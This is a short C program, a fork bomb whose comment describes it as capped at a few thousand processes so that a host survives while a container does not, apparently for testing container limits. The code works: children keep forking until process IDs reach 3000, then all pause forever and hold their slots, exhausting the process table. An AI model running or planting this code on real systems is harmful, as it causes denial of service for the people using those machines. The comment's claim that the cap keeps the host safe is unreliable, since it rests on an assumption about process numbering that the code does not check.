// A fork bomb: what must be said of it is that it has too many processes. It ends at some thousands, so that a machine
// outlives a container that does not hold it.
#include <unistd.h>

int main(void) {
    while (getpid() < 3000) fork();
    for (;;) pause();
}
